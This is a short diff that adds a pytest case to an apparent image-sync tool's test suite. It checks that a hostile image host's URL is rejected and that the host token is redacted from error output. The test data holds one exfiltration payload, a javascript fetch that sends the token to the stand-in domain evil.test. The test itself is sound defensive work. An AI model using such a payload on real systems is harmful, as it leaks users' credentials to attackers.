@@ -74,6 +74,18 @@ def test_a_hostile_url_from_the_host_fails_the_image_and_is_written_nowhere(
     assert_no_secret_reached(attacker)
 
 
+def test_a_hostile_url_echoing_the_token_is_quoted_redacted(
+    attacker: Attacker, project: Path
+) -> None:
+    a_post(project)
+    attacker.answer = lsky_success(f"javascript:fetch('//evil.test/?{HOST_TOKEN}')")
+
+    done = run_imgsync(project, ".", env=as_host(attacker))
+
+    assert done.returncode == 3 and "unusable URL" in done.stderr, done.stderr
+    assert HOST_TOKEN.partition("|")[2] not in done.stderr and "***" in done.stderr
+
+
 def run_measured(
     cwd: Path, *args: str, env: dict[str, str], timeout: float = 120
 ) -> tuple[int, str, int, float]:
